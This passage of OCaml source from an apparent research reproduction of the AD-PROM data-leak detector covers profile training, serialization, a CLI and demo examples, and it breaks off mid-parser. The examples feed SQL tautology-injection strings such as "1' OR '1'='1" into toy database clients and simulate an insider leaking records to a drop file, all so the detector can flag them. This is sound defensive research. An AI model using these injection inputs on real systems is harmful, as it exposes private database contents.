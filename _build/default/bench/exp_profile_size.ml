(* Profile size (Sec. V-C: "the averaged size of an application's
   profile is about ~31k"). We serialize each trained CA profile and
   report the on-disk size. *)

let run () =
  Common.heading "Profile size (paper: ~31 kB average)";
  let rows =
    List.map
      (fun (label, trained) ->
        let t = Lazy.force trained in
        let profile = Lazy.force t.Common.adprom in
        let serialized = Adprom.Profile_io.to_string profile in
        [
          label;
          string_of_int profile.Adprom.Profile.clustering.Adprom.Reduction.states;
          string_of_int (Array.length profile.Adprom.Profile.alphabet);
          Printf.sprintf "%.1f kB" (float_of_int (String.length serialized) /. 1024.0);
        ])
      (Common.ca_all ())
  in
  Adprom.Report.print ~header:[ "App"; "states"; "observables"; "serialized size" ] rows

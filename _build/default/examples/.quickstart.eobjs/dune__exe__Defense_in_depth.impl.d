examples/defense_in_depth.ml: Adprom Applang Attack List Printf Runtime Sqldb String

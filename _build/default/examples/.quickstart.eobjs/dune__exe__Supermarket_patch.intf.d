examples/supermarket_patch.mli:

examples/quickstart.mli:

examples/hospital_insider.ml: Adprom Applang Attack Dataset List Printf Runtime

examples/banking_sqli.ml: Adprom Analysis Array Attack Dataset Hashtbl List Option Printf Runtime

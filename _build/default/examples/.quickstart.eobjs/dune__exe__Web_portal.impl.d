examples/web_portal.ml: Adprom Array Dataset List Printf Runtime String

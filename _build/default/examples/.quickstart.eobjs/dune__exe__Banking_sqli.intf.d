examples/banking_sqli.mli:

examples/defense_in_depth.mli:

examples/quickstart.ml: Adprom Analysis Array List Printf Runtime Sqldb

examples/supermarket_patch.ml: Adprom Analysis Array Attack Dataset List Printf Runtime

examples/hospital_insider.mli:

(* Attack 4 end to end on the supermarket application: the attacker has
   only the binary and splices an fwrite that leaks the targeted data
   right after a DB-output site, Dyninst-style (Sec. III case 2 /
   Table V). The source never changes; the injected calls only exist in
   the instrumented execution.

   Run with:  dune exec examples/supermarket_patch.exe *)

let () =
  let case = Dataset.Ca_attacks.attack4 () in
  let app = case.Dataset.Ca_attacks.app in
  Printf.printf "Attack: %s\n\n" case.Dataset.Ca_attacks.scenario.Attack.Scenario.description;

  Printf.printf "Training the profile on the clean binary ...\n%!";
  let dataset = Adprom.Pipeline.collect app in
  let profile = Adprom.Pipeline.train dataset in

  (* Run one test case with and without the patch and diff the traces. *)
  let _, patches, _ = Attack.Scenario.apply case.Dataset.Ca_attacks.scenario app in
  let tc = List.hd app.Adprom.Pipeline.test_cases in
  let analysis = dataset.Adprom.Pipeline.analysis in
  let clean_trace, _ = Adprom.Pipeline.run_case ~analysis app tc in
  let patched_trace, _ = Adprom.Pipeline.run_case ~patches ~analysis app tc in
  Printf.printf "clean run: %d calls; patched run: %d calls\n"
    (Array.length clean_trace) (Array.length patched_trace);
  let injected =
    Array.to_list patched_trace
    |> List.filter (fun (e : Runtime.Collector.event) ->
           Analysis.Symbol.name e.Runtime.Collector.symbol = "fwrite")
  in
  List.iter
    (fun (e : Runtime.Collector.event) ->
      Printf.printf "injected call: %s from %s (block %d)\n"
        (Analysis.Symbol.to_string e.Runtime.Collector.symbol)
        e.Runtime.Collector.caller e.Runtime.Collector.block)
    injected;

  let verdicts = Adprom.Detector.monitor profile patched_trace in
  Printf.printf "\nDetection on the patched run: %s\n"
    (Adprom.Detector.flag_to_string (Adprom.Detector.worst (List.map snd verdicts)));
  let clean_verdicts = Adprom.Detector.monitor profile clean_trace in
  Printf.printf "Detection on the clean run:   %s\n"
    (Adprom.Detector.flag_to_string (Adprom.Detector.worst (List.map snd clean_verdicts)))

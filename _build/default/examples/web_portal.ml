(* The paper's future work (Sec. VIII) made concrete: monitoring a web
   application. The portal serves HTTP sessions; AD-PROM profiles the
   request handlers' call sequences exactly as for desktop clients, and
   a parameter injection through the vulnerable /search route is flagged
   as a data leak.

   Run with:  dune exec examples/web_portal.exe *)

let () =
  let app = Dataset.Web_portal.app () in
  Printf.printf "Profiling %s from %d recorded sessions ...\n%!"
    app.Adprom.Pipeline.name
    (List.length app.Adprom.Pipeline.test_cases);
  let ds = Adprom.Pipeline.collect app in
  let profile = Adprom.Pipeline.train ds in
  Printf.printf "Profile: %d states, %d observables, threshold %.3f\n\n"
    profile.Adprom.Profile.clustering.Adprom.Reduction.states
    (Array.length profile.Adprom.Profile.alphabet)
    profile.Adprom.Profile.threshold;

  let show label (tc : Runtime.Testcase.t) =
    let trace, out =
      Adprom.Pipeline.run_case ~analysis:ds.Adprom.Pipeline.analysis app tc
    in
    let verdict =
      Adprom.Detector.worst (List.map snd (Adprom.Detector.monitor profile trace))
    in
    Printf.printf "%-18s requests=%d leaked_values=%d verdict=%s\n" label
      (List.length tc.Runtime.Testcase.requests)
      out.Runtime.Interp.leaked_values
      (Adprom.Detector.flag_to_string verdict);
    (label, out)
  in
  let _ = show "normal session" (List.hd app.Adprom.Pipeline.test_cases) in
  let _, out = show "injected session" Dataset.Web_portal.injection_session in
  Printf.printf "\nResponse to GET /search?q=%%' OR '1'='1 :\n";
  List.iteri
    (fun i line -> if i < 5 then Printf.printf "  %s\n" line)
    (String.split_on_char '\n' out.Runtime.Interp.responses);
  Printf.printf "  ... (the whole customer table followed)\n"

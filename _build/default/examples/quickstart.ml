(* Quickstart: profile a tiny DB client and catch a tautology injection.

   Run with:  dune exec examples/quickstart.exe

   The program below is the Fig. 2 scenario of the paper: a client that
   concatenates user input into its query. We (1) statically analyze it,
   (2) train a behaviour profile from normal runs, and (3) monitor a
   malicious run. *)

let source =
  {|
fun main() {
  let conn = db_connect("mysql");
  let acc = scanf();
  let q = strcat(strcat("SELECT * FROM clients WHERE id='", acc), "';");
  if (mysql_query(conn, q) != 0) {
    printf("query error\n");
    exit();
  }
  let res = mysql_store_result(conn);
  let row = mysql_fetch_row(res);
  while (row != null) {
    printf("%s %s\n", row[0], row[1]);
    row = mysql_fetch_row(res);
  }
  printf("done\n");
}
|}

let app =
  {
    Adprom.Pipeline.name = "quickstart";
    source;
    dbms = "MySQL";
    setup_db =
      (fun engine ->
        ignore (Sqldb.Engine.exec engine "CREATE TABLE clients (id, name)");
        for i = 0 to 19 do
          ignore
            (Sqldb.Engine.exec engine
               (Printf.sprintf "INSERT INTO clients VALUES (%d, 'user%d')" (100 + i) i))
        done);
    test_cases =
      List.init 15 (fun i ->
          Runtime.Testcase.make ~input:[ string_of_int (100 + i) ] (Printf.sprintf "normal-%d" i));
  }

let () =
  (* 1. static phase: CFG, DDG labels, probability forecast, pCTM *)
  let dataset = Adprom.Pipeline.collect app in
  let analysis = dataset.Adprom.Pipeline.analysis in
  Printf.printf "Static analysis: %d call sites, %d DB-output label(s), pCTM conserved: %b\n"
    (List.length (Analysis.Ctm.calls analysis.Analysis.Analyzer.pctm))
    (List.length analysis.Analysis.Analyzer.taint.Analysis.Taint.labeled_blocks)
    (Analysis.Ctm.conserved analysis.Analysis.Analyzer.pctm);

  (* 2. dynamic phase: train the HMM profile on normal traces *)
  let profile = Adprom.Pipeline.train dataset in
  Printf.printf "Profile: %d hidden states, %d observables, threshold %.3f\n\n"
    profile.Adprom.Profile.clustering.Adprom.Reduction.states
    (Array.length profile.Adprom.Profile.alphabet)
    profile.Adprom.Profile.threshold;

  (* 3. detection: a normal run and a tautology injection *)
  let monitor label input =
    let tc = Runtime.Testcase.make ~input:[ input ] label in
    let trace, outcome = Adprom.Pipeline.run_case ~analysis app tc in
    let verdicts = Adprom.Detector.monitor profile trace in
    Printf.printf "%-10s input=%-14s rows_printed=%d verdict=%s\n" label input
      outcome.Runtime.Interp.leaked_values
      (Adprom.Detector.flag_to_string (Adprom.Detector.worst (List.map snd verdicts)))
  in
  monitor "normal" "105";
  monitor "attack" "1' OR '1'='1"

(* Attack 2 end to end on the hospital application: a developer-level
   insider edits update_diagnosis so it silently re-queries the patient
   record and appends it to a drop file (Sec. III case 1 / Table V).

   The example prints the diff-like view of the malicious function, then
   shows AD-PROM detecting the new out-of-context calls and connecting
   them to the data source.

   Run with:  dune exec examples/hospital_insider.exe *)

let () =
  let case = Dataset.Ca_attacks.attack2 () in
  let app = case.Dataset.Ca_attacks.app in
  let malicious_app, _, _ = Attack.Scenario.apply case.Dataset.Ca_attacks.scenario app in

  (* Show what the insider changed. *)
  let show_function source name =
    let program = Applang.Parser.parse_program source in
    match Applang.Ast.find_func program name with
    | Some f ->
        print_endline
          (Applang.Pretty.program_to_string { Applang.Ast.funcs = [ f ] })
    | None -> ()
  in
  print_endline "=== update_diagnosis, original ===";
  show_function app.Adprom.Pipeline.source "update_diagnosis";
  print_endline "=== update_diagnosis, after the insider's edit ===";
  show_function malicious_app.Adprom.Pipeline.source "update_diagnosis";

  Printf.printf "Training the profile on the original application ...\n%!";
  let dataset = Adprom.Pipeline.collect app in
  let profile = Adprom.Pipeline.train dataset in

  let traces = Attack.Scenario.run case.Dataset.Ca_attacks.scenario app in
  let verdicts =
    List.concat_map
      (fun (_, trace) -> List.map snd (Adprom.Detector.monitor profile trace))
      traces
  in
  let leaks =
    List.filter
      (fun (v : Adprom.Detector.verdict) -> v.Adprom.Detector.flag = Adprom.Detector.Data_leak)
      verdicts
  in
  Printf.printf "\n%d window(s) scored; %d flagged as data leaks; overall: %s\n"
    (List.length verdicts) (List.length leaks)
    (Adprom.Detector.flag_to_string (Adprom.Detector.worst verdicts));
  (* The leaked file is visible in the run outcome too. *)
  match Attack.Scenario.apply case.Dataset.Ca_attacks.scenario app with
  | malicious, patches, _ ->
      let analysis = Adprom.Pipeline.analyze_app malicious in
      let tc =
        Runtime.Testcase.make ~input:[ "4"; "1003"; "migraine"; "0" ] "insider-run"
      in
      let _, outcome = Adprom.Pipeline.run_case ~patches ~analysis malicious tc in
      List.iter
        (fun (path, contents) ->
          if path = "/tmp/drop.dat" then
            Printf.printf "\nExfiltrated file %s contains: %S\n" path contents)
        outcome.Runtime.Interp.files

(* adprom — command-line front end.

   Subcommands:
     analyze  <file>   static phase: CFGs, DDG labels, CTMs, pCTM
     run      <file>   interpret a program, printing the call trace
     demo     <app>    train on a built-in app and replay its attack
     list-apps         list the built-in subject applications *)

open Cmdliner

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let builtin_apps () =
  [
    ("hospital", Dataset.Ca_hospital.app ());
    ("banking", Dataset.Ca_banking.app ());
    ("supermarket", Dataset.Ca_supermarket.app ());
    ("grep", Dataset.Sir.app1 ());
    ("gzip", Dataset.Sir.app2 ());
    ("sed", Dataset.Sir.app3 ());
    ("bash", Dataset.Sir.app4 ());
    ("webportal", Dataset.Web_portal.app ());
  ]

(* --- analyze ----------------------------------------------------------- *)

let analyze_cmd_run file verbose dot_dir =
  let source = read_file file in
  let program = Applang.Parser.parse_program source in
  let analysis = Analysis.Analyzer.analyze program in
  Printf.printf "functions: %d\n" (List.length analysis.Analysis.Analyzer.cfgs);
  List.iter
    (fun (name, cfg) ->
      Printf.printf "  %-24s %3d blocks, %2d call sites\n" name
        (List.length (Analysis.Cfg.node_ids cfg))
        (List.length (Analysis.Cfg.call_nodes cfg)))
    analysis.Analysis.Analyzer.cfgs;
  let labeled = analysis.Analysis.Analyzer.taint.Analysis.Taint.labeled_blocks in
  Printf.printf "DB-output labels (DDG): %s\n"
    (if labeled = [] then "none"
     else String.concat ", " (List.map (Printf.sprintf "block %d") labeled));
  Printf.printf "pCTM: %d call sites, invariants hold: %b\n"
    (List.length (Analysis.Ctm.calls analysis.Analysis.Analyzer.pctm))
    (Analysis.Ctm.conserved analysis.Analysis.Analyzer.pctm);
  if verbose then begin
    print_endline "--- pCTM ---";
    Format.printf "%a@." Analysis.Ctm.pp analysis.Analysis.Analyzer.pctm
  end;
  (match dot_dir with
  | None -> ()
  | Some dir ->
      if not (Sys.file_exists dir) then Sys.mkdir dir 0o755;
      let write name contents =
        let oc = open_out (Filename.concat dir name) in
        output_string oc contents;
        close_out oc
      in
      List.iter
        (fun (name, cfg) -> write (name ^ ".dot") (Analysis.Export.cfg_to_dot cfg))
        analysis.Analysis.Analyzer.cfgs;
      write "pctm.dot" (Analysis.Export.ctm_to_dot analysis.Analysis.Analyzer.pctm);
      write "callgraph.dot"
        (Analysis.Export.callgraph_to_dot analysis.Analysis.Analyzer.callgraph);
      Printf.printf "Graphviz files written to %s/
" dir);
  `Ok ()

let file_arg =
  Arg.(required & pos 0 (some file) None & info [] ~docv:"FILE" ~doc:"AppLang source file.")

let verbose_flag = Arg.(value & flag & info [ "v"; "verbose" ] ~doc:"Print the full pCTM.")

let dot_arg =
  Arg.(
    value
    & opt (some string) None
    & info [ "dot" ] ~docv:"DIR" ~doc:"Write Graphviz files (CFGs, pCTM, call graph) to DIR.")

let analyze_cmd =
  Cmd.v
    (Cmd.info "analyze" ~doc:"Statically analyze an AppLang program (CFG, DDG, pCTM).")
    Term.(ret (const analyze_cmd_run $ file_arg $ verbose_flag $ dot_arg))

(* --- run --------------------------------------------------------------- *)

let run_cmd_run file inputs show_trace =
  let source = read_file file in
  let program = Applang.Parser.parse_program source in
  let analysis = Analysis.Analyzer.analyze program in
  let engine = Sqldb.Engine.create () in
  let tc = Runtime.Testcase.make ~input:inputs "cli-run" in
  let trace, outcome = Runtime.Interp.collect_trace ~analysis ~engine tc in
  print_string outcome.Runtime.Interp.stdout;
  (match outcome.Runtime.Interp.status with
  | Ok () -> ()
  | Error msg -> Printf.eprintf "runtime error: %s\n" msg);
  if show_trace then begin
    Printf.printf "--- trace (%d library calls) ---\n" (Array.length trace);
    Array.iter
      (fun (e : Runtime.Collector.event) ->
        Printf.printf "%-24s from %s\n"
          (Analysis.Symbol.to_string e.Runtime.Collector.symbol)
          e.Runtime.Collector.caller)
      trace
  end;
  `Ok ()

let inputs_arg =
  Arg.(
    value & opt_all string []
    & info [ "i"; "input" ] ~docv:"LINE" ~doc:"A line of scripted stdin (repeatable).")

let trace_flag = Arg.(value & flag & info [ "t"; "trace" ] ~doc:"Print the library-call trace.")

let run_cmd =
  Cmd.v
    (Cmd.info "run" ~doc:"Interpret an AppLang program under the Calls Collector.")
    Term.(ret (const run_cmd_run $ file_arg $ inputs_arg $ trace_flag))

(* --- demo -------------------------------------------------------------- *)

let demo_cmd_run app_name =
  match List.assoc_opt app_name (builtin_apps ()) with
  | None ->
      `Error (false, Printf.sprintf "unknown app %S; try `adprom list-apps`" app_name)
  | Some app ->
      Printf.printf "Collecting normal traces of %s ...\n%!" app.Adprom.Pipeline.name;
      let dataset = Adprom.Pipeline.collect app in
      Printf.printf "Training the profile (%d sequences) ...\n%!"
        (List.length dataset.Adprom.Pipeline.windows);
      let profile = Adprom.Pipeline.train dataset in
      Printf.printf "Profile ready: %d states, threshold %.3f\n"
        profile.Adprom.Profile.clustering.Adprom.Reduction.states
        profile.Adprom.Profile.threshold;
      let attacks =
        List.filter
          (fun (c : Dataset.Ca_attacks.case) ->
            c.Dataset.Ca_attacks.app.Adprom.Pipeline.name = app.Adprom.Pipeline.name)
          (Dataset.Ca_attacks.all ())
      in
      if attacks = [] then
        Printf.printf "(no built-in attack scenario targets this app)\n"
      else
        List.iter
          (fun (c : Dataset.Ca_attacks.case) ->
            let traces = Attack.Scenario.run c.Dataset.Ca_attacks.scenario app in
            let verdicts =
              List.concat_map
                (fun (_, t) -> List.map snd (Adprom.Detector.monitor profile t))
                traces
            in
            Printf.printf "%s -> %s\n" c.Dataset.Ca_attacks.label
              (Adprom.Detector.flag_to_string (Adprom.Detector.worst verdicts)))
          attacks;
      `Ok ()

let app_arg =
  Arg.(
    required
    & pos 0 (some string) None
    & info [] ~docv:"APP" ~doc:"Built-in app name (see list-apps).")

let demo_cmd =
  Cmd.v
    (Cmd.info "demo" ~doc:"Train on a built-in app and replay its attack scenarios.")
    Term.(ret (const demo_cmd_run $ app_arg))

(* --- train ------------------------------------------------------------- *)

let train_cmd_run app_name output =
  match List.assoc_opt app_name (builtin_apps ()) with
  | None -> `Error (false, Printf.sprintf "unknown app %S; try `adprom list-apps`" app_name)
  | Some app ->
      Printf.printf "Collecting traces and training %s ...\n%!" app.Adprom.Pipeline.name;
      let dataset = Adprom.Pipeline.collect app in
      let profile = Adprom.Pipeline.train dataset in
      Adprom.Profile_io.save profile output;
      Printf.printf "Profile written to %s (%d states, %d observables, threshold %.3f)\n"
        output
        profile.Adprom.Profile.clustering.Adprom.Reduction.states
        (Array.length profile.Adprom.Profile.alphabet)
        profile.Adprom.Profile.threshold;
      `Ok ()

let output_arg =
  Arg.(
    value
    & opt string "app.profile"
    & info [ "o"; "output" ] ~docv:"FILE" ~doc:"Where to store the serialized profile.")

let train_cmd =
  Cmd.v
    (Cmd.info "train" ~doc:"Train a profile for a built-in app and save it to disk.")
    Term.(ret (const train_cmd_run $ app_arg $ output_arg))

(* --- check ------------------------------------------------------------- *)

let check_cmd_run profile_path file inputs =
  match Adprom.Profile_io.load profile_path with
  | Error msg -> `Error (false, Printf.sprintf "cannot load profile: %s" msg)
  | Ok profile ->
      let source = read_file file in
      let program = Applang.Parser.parse_program source in
      let analysis = Analysis.Analyzer.analyze program in
      let engine = Sqldb.Engine.create () in
      let tc = Runtime.Testcase.make ~input:inputs "cli-check" in
      let trace, outcome = Runtime.Interp.collect_trace ~analysis ~engine tc in
      (match outcome.Runtime.Interp.status with
      | Ok () -> ()
      | Error msg -> Printf.eprintf "runtime error: %s\n" msg);
      let verdicts = Adprom.Detector.monitor profile trace in
      let worst = Adprom.Detector.worst (List.map snd verdicts) in
      List.iter
        (fun ((w : Adprom.Window.t), (v : Adprom.Detector.verdict)) ->
          if v.Adprom.Detector.flag <> Adprom.Detector.Normal then begin
            Printf.printf "ALERT %-14s score=%s%s\n"
              (Adprom.Detector.flag_to_string v.Adprom.Detector.flag)
              (Adprom.Report.float_cell v.Adprom.Detector.score)
              (match v.Adprom.Detector.unknown_pair with
              | Some (caller, sym) ->
                  Printf.sprintf " (out of context: %s from %s)"
                    (Analysis.Symbol.to_string sym) caller
              | None -> "");
            match Adprom.Detector.explain ~top:1 profile w with
            | [ s ] ->
                Printf.printf "      most surprising: %s from %s (position %d)\n"
                  (Analysis.Symbol.to_string s.Adprom.Detector.symbol)
                  s.Adprom.Detector.caller s.Adprom.Detector.position
            | _ -> ()
          end)
        verdicts;
      Printf.printf "%d window(s) scored; overall verdict: %s\n" (List.length verdicts)
        (Adprom.Detector.flag_to_string worst);
      `Ok ()

let profile_arg =
  Arg.(
    required
    & pos 0 (some file) None
    & info [] ~docv:"PROFILE" ~doc:"Serialized profile (see `adprom train`).")

let check_file_arg =
  Arg.(required & pos 1 (some file) None & info [] ~docv:"FILE" ~doc:"AppLang source file.")

let check_cmd =
  Cmd.v
    (Cmd.info "check" ~doc:"Monitor one run of a program against a stored profile.")
    Term.(ret (const check_cmd_run $ profile_arg $ check_file_arg $ inputs_arg))

(* --- list-apps --------------------------------------------------------- *)

let list_cmd =
  Cmd.v
    (Cmd.info "list-apps" ~doc:"List the built-in subject applications.")
    Term.(
      ret
        (const (fun () ->
             List.iter
               (fun (key, (app : Adprom.Pipeline.app)) ->
                 Printf.printf "%-12s %s (%d test cases)\n" key app.Adprom.Pipeline.name
                   (List.length app.Adprom.Pipeline.test_cases))
               (builtin_apps ());
             `Ok ())
        $ const ()))

let () =
  let doc = "AD-PROM: anomaly detection against data leakage by application programs" in
  exit
    (Cmd.eval
       (Cmd.group (Cmd.info "adprom" ~doc)
          [ analyze_cmd; run_cmd; demo_cmd; train_cmd; check_cmd; list_cmd ]))

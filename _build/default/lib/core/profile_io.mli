(** Profile persistence.

    The paper stores one profile per monitored application (~31 kB on
    average); this module gives the reproduction the same capability
    with a simple line-oriented text format, so a profile trained once
    can be shipped to the monitoring host. The round trip preserves
    detection behaviour exactly (same alphabet, model, threshold and
    known pairs). *)

val to_string : Profile.t -> string

val of_string : string -> (Profile.t, string) result
(** Parse a serialized profile. All failures are returned as [Error]. *)

val save : Profile.t -> string -> unit
(** Write to a file. *)

val load : string -> (Profile.t, string) result

(** Application profiles — the Profile Constructor (Sec. IV-B3, IV-C).

    A profile bundles everything the Detection Engine needs: the
    observation alphabet, the trained HMM, the detection threshold, and
    the (caller, call) pairs seen during training (for the
    out-of-context flag).

    Training follows the paper's protocol: the HMM is initialized from
    the aggregated pCTM (or randomly, for the Rand-HMM baseline), 1/5 of
    the normal windows are held out as the convergence sub-dataset
    (CSDS), Baum-Welch rounds run until the CSDS score stops improving,
    and the threshold is then selected from normal-window scores. *)

type init_kind =
  | Init_pctm  (** probability-forecast initialization (AD-PROM) *)
  | Init_random  (** random initialization (Rand-HMM baseline) *)

type params = {
  window : int;  (** n-length of call sequences (paper: 15) *)
  max_states : int;
      (** clustering threshold: beyond this many call sites, reduce
          (paper: ~900; scaled down here, see DESIGN.md) *)
  cluster_fraction : float;  (** k-means K as a fraction of sites (paper: 0.3) *)
  pca_variance : float;  (** variance kept by PCA *)
  max_rounds : int;  (** Baum-Welch round budget *)
  patience : int;  (** rounds without CSDS improvement before stopping *)
  seed : int;
  threshold_strategy : Threshold.strategy;
  init : init_kind;
  use_labels : bool;  (** false = CMarkov view (no DB-output labels) *)
  track_callers : bool;
      (** record (caller, call) pairs for the out-of-context flag —
          AD-PROM machinery, off for the baselines *)
}

val default_params : params
(** window 15, max_states 250, fraction 0.3, variance 0.95, 30 rounds,
    patience 2, [Min_margin 0.5], pCTM init, labels on. *)

type t = {
  params : params;
  alphabet : Analysis.Symbol.t array;
  obs_index : int Analysis.Symbol.Table.t;  (** observable -> alphabet index *)
  model : Hmm.t;
  threshold : float;
  clustering : Reduction.clustering;
  known_pairs : (string * Analysis.Symbol.t, unit) Hashtbl.t;
  csds_history : float list;  (** CSDS mean score after each round *)
  rounds_run : int;
}

val train :
  ?params:params -> analysis:Analysis.Analyzer.t -> Window.t list -> t
(** Build a profile from the static analysis and normal training
    windows. @raise Invalid_argument when no usable windows exist. *)

val extend : t -> Window.t list -> t
(** Continue training with additional normal windows — the paper's
    Sec. VII mitigation ("an intermediate stage between training and
    detection phases to collect more data"): the HMM is refined with
    Baum-Welch on the new data, the threshold re-selected to also cover
    the new windows' scores, and their (caller, call) pairs become
    known. The observation alphabet is fixed at initial training;
    windows with unseen symbols are ignored (until a full retrain they
    would be attacks, not new legitimate behaviour).
    @raise Invalid_argument if [windows] is empty. *)

val prepare : t -> Window.t -> Window.t
(** Apply the profile's label view (strips labels under
    [use_labels = false]). *)

val score : t -> Window.t -> float
(** Per-symbol log-probability of the window under the profile's model;
    [neg_infinity] when the window contains symbols outside the
    alphabet. Applies {!prepare}. *)

val known_pair : t -> string -> Analysis.Symbol.t -> bool

val size_estimate : t -> int
(** Rough serialized profile size in bytes (the paper reports ~31 kB). *)

module Symbol = Analysis.Symbol

(* Line-oriented format:
     adprom-profile 1
     params <window> <max_states> <cluster_fraction> <pca_variance>
            <use_labels> <track_callers>
     threshold <float>
     alphabet <k>            followed by k symbol lines
     pi <n floats>
     a <n>                   followed by n rows of n floats
     b <n> <m>               followed by n rows of m floats
     pairs <k>               followed by k "<caller> <symbol>" lines
     sites <k>               followed by k "<state> <symbol>" lines
   Symbols are encoded as colon-separated fields. *)

let encode_symbol = function
  | Symbol.Entry -> "entry"
  | Symbol.Exit -> "exit"
  | Symbol.Func f -> "func:" ^ f
  | Symbol.Lib { name; label; site } ->
      let opt = function None -> "-" | Some i -> string_of_int i in
      Printf.sprintf "lib:%s:%s:%s" name (opt label) (opt site)

let decode_symbol s =
  match String.split_on_char ':' s with
  | [ "entry" ] -> Ok Symbol.Entry
  | [ "exit" ] -> Ok Symbol.Exit
  | [ "func"; f ] -> Ok (Symbol.Func f)
  | [ "lib"; name; label; site ] ->
      let opt = function "-" -> Ok None | v -> (
        match int_of_string_opt v with
        | Some i -> Ok (Some i)
        | None -> Error ("bad int: " ^ v))
      in
      (match (opt label, opt site) with
      | Ok label, Ok site -> Ok (Symbol.Lib { name; label; site })
      | Error e, _ | _, Error e -> Error e)
  | _ -> Error ("bad symbol: " ^ s)

let floats_to_line xs =
  String.concat " " (Array.to_list (Array.map (Printf.sprintf "%.9g") xs))

(* Stochastic rows are dominated by the Baum-Welch smoothing floor, so
   they compress well: store only the entries well above the row
   minimum; the remaining mass is spread uniformly over the implicit
   positions at load time. This is what keeps profiles in the tens of
   kilobytes (the paper reports ~31 kB). *)
let sparse_row_to_line xs =
  let n = Array.length xs in
  let lo = Array.fold_left Float.min infinity xs in
  let threshold = lo *. 2.0 in
  let explicit = ref [] in
  Array.iteri (fun j v -> if v > threshold then explicit := (j, v) :: !explicit) xs;
  let explicit = List.rev !explicit in
  if List.length explicit = n then
    "d " ^ floats_to_line xs
  else
    "s "
    ^ String.concat " "
        (List.map (fun (j, v) -> Printf.sprintf "%d:%.9g" j v) explicit)

let sparse_row_of_line ~n l =
  match String.split_on_char ' ' l with
  | "d" :: rest ->
      Array.of_list (List.filter_map (fun t -> if t = "" then None else Some (float_of_string t)) rest)
  | "s" :: rest ->
      let entries =
        List.filter_map
          (fun tok ->
            if tok = "" then None
            else
              match String.split_on_char ':' tok with
              | [ j; v ] -> Some (int_of_string j, float_of_string v)
              | _ -> failwith ("bad sparse entry: " ^ tok))
          rest
      in
      let row = Array.make n nan in
      List.iter (fun (j, v) -> row.(j) <- v) entries;
      let explicit_mass = List.fold_left (fun acc (_, v) -> acc +. v) 0.0 entries in
      let implicit = n - List.length entries in
      let fill = if implicit = 0 then 0.0 else (1.0 -. explicit_mass) /. float_of_int implicit in
      Array.map (fun v -> if Float.is_nan v then fill else v) row
  | _ -> failwith ("bad row line: " ^ l)

let to_string (p : Profile.t) =
  let buf = Buffer.create 4096 in
  let line fmt = Printf.ksprintf (fun s -> Buffer.add_string buf s; Buffer.add_char buf '\n') fmt in
  line "adprom-profile 1";
  let pr = p.Profile.params in
  line "params %d %d %.17g %.17g %b %b" pr.Profile.window pr.Profile.max_states
    pr.Profile.cluster_fraction pr.Profile.pca_variance pr.Profile.use_labels
    pr.Profile.track_callers;
  line "threshold %.17g" p.Profile.threshold;
  line "alphabet %d" (Array.length p.Profile.alphabet);
  Array.iter (fun s -> line "%s" (encode_symbol s)) p.Profile.alphabet;
  let model = p.Profile.model in
  line "pi %s" (floats_to_line model.Hmm.pi);
  line "a %d" model.Hmm.n;
  for i = 0 to model.Hmm.n - 1 do
    line "%s" (sparse_row_to_line (Mlkit.Matrix.row model.Hmm.a i))
  done;
  line "b %d %d" model.Hmm.n model.Hmm.m;
  for i = 0 to model.Hmm.n - 1 do
    line "%s" (sparse_row_to_line (Mlkit.Matrix.row model.Hmm.b i))
  done;
  let pairs = Hashtbl.fold (fun (c, s) () acc -> (c, s) :: acc) p.Profile.known_pairs [] in
  line "pairs %d" (List.length pairs);
  List.iter (fun (c, s) -> line "%s %s" c (encode_symbol s)) pairs;
  let clustering = p.Profile.clustering in
  line "sites %d" (Array.length clustering.Reduction.sites);
  Array.iteri
    (fun i s -> line "%d %s" clustering.Reduction.assignment.(i) (encode_symbol s))
    clustering.Reduction.sites;
  Buffer.contents buf

exception Bad of string

let of_string text =
  let lines = ref (String.split_on_char '\n' text) in
  let next () =
    match !lines with
    | [] -> raise (Bad "unexpected end of profile")
    | l :: rest ->
        lines := rest;
        l
  in
  let floats_of_line l =
    Array.of_list
      (List.filter_map
         (fun tok -> if tok = "" then None else Some (float_of_string tok))
         (String.split_on_char ' ' l))
  in
  let expect_prefix prefix =
    let l = next () in
    let n = String.length prefix in
    if String.length l < n || String.sub l 0 n <> prefix then
      raise (Bad (Printf.sprintf "expected %s, got %S" prefix l));
    String.trim (String.sub l n (String.length l - n))
  in
  let sym s = match decode_symbol s with Ok v -> v | Error e -> raise (Bad e) in
  try
    if next () <> "adprom-profile 1" then raise (Bad "bad magic");
    let params_line = expect_prefix "params" in
    let params =
      match String.split_on_char ' ' params_line with
      | [ w; ms; cf; pv; ul; tc ] ->
          {
            Profile.default_params with
            Profile.window = int_of_string w;
            max_states = int_of_string ms;
            cluster_fraction = float_of_string cf;
            pca_variance = float_of_string pv;
            use_labels = bool_of_string ul;
            track_callers = bool_of_string tc;
          }
      | _ -> raise (Bad "bad params line")
    in
    let threshold = float_of_string (expect_prefix "threshold") in
    let k = int_of_string (expect_prefix "alphabet") in
    let alphabet = Array.init k (fun _ -> sym (next ())) in
    let pi = floats_of_line (expect_prefix "pi") in
    let n = int_of_string (expect_prefix "a") in
    let a = Mlkit.Matrix.of_arrays (Array.init n (fun _ -> sparse_row_of_line ~n (next ()))) in
    let bm = expect_prefix "b" in
    let n', m =
      match String.split_on_char ' ' bm with
      | [ n'; m ] -> (int_of_string n', int_of_string m)
      | _ -> raise (Bad "bad b header")
    in
    if n' <> n then raise (Bad "inconsistent state counts");
    if m <> Array.length alphabet then raise (Bad "emission/alphabet mismatch");
    let b = Mlkit.Matrix.of_arrays (Array.init n (fun _ -> sparse_row_of_line ~n:m (next ()))) in
    let model = Hmm.create ~a ~b ~pi in
    let pair_count = int_of_string (expect_prefix "pairs") in
    let known_pairs = Hashtbl.create (max 16 pair_count) in
    for _ = 1 to pair_count do
      let l = next () in
      match String.index_opt l ' ' with
      | Some i ->
          let caller = String.sub l 0 i in
          let s = String.sub l (i + 1) (String.length l - i - 1) in
          Hashtbl.replace known_pairs (caller, sym s) ()
      | None -> raise (Bad ("bad pair line: " ^ l))
    done;
    let site_count = int_of_string (expect_prefix "sites") in
    let entries =
      Array.init site_count (fun _ ->
          let l = next () in
          match String.index_opt l ' ' with
          | Some i ->
              ( int_of_string (String.sub l 0 i),
                sym (String.sub l (i + 1) (String.length l - i - 1)) )
          | None -> raise (Bad ("bad site line: " ^ l)))
    in
    let clustering =
      {
        Reduction.sites = Array.map snd entries;
        assignment = Array.map fst entries;
        states = n;
        reduced = site_count <> n;
      }
    in
    let obs_index = Symbol.Table.create 64 in
